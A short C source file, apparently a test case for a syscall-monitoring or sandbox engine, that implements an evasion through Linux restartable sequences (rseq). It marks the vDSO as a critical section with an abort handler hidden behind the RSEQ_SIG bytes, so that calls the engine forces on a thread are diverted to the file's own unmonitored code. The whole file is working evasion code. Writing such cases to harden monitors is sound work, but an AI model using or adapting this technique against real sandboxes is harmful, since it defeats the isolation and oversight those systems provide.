/* Evasion: a thread says that it is in a restartable sequence (rseq(2)) wherever an engine has it make a call, so that the kernel sends
 * it to code of its own instead. */
#include "victim.h"
#include "unjudged.h"
#include <sys/auxv.h>
#include <sys/rseq.h>

enum { VDSO_SIZE = 2 * PAGE };
static struct {
    _Alignas(32) uint32_t version;
    uint32_t flags;
    uint64_t start, length, aborted;
} sequence;

/* Behind what the C library has told the kernel to look for (RSEQ_SIG). */
__asm__(".text\n"
        ".byte 0x0f, 0xb9, 0x3d\n"
        ".long 0x53053053\n"
        "aborted:\n" UNJUDGED_CODE);
extern char aborted[];

static void *work(void *unused)
{
    char *place = (char *)__builtin_thread_pointer() + __rseq_offset + offsetof(struct rseq, rseq_cs);
    long result = SYS_pause;
    atomic_store(&sleeper, thread_id());
    /* Nothing is to come between: the kernel forgets a sequence that the thread is not in. */
    __asm__ volatile("mov %2, (%1)\n"
                     "syscall"
                     : "+a"(result)
                     : "r"(place), "r"(&sequence)
                     : "rcx", "r11", "memory");
    return unused;
}

static void prepare(void)
{
}

static void handle(const char *secret)
{
    unsigned long found = handler_now();
    sequence.start = getauxval(AT_SYSINFO_EHDR);
    sequence.length = VDSO_SIZE;
    sequence.aborted = (uint64_t)aborted;
    start_sleeper(work, secret);
    answer("{\"handler\":%lu}", found);
}
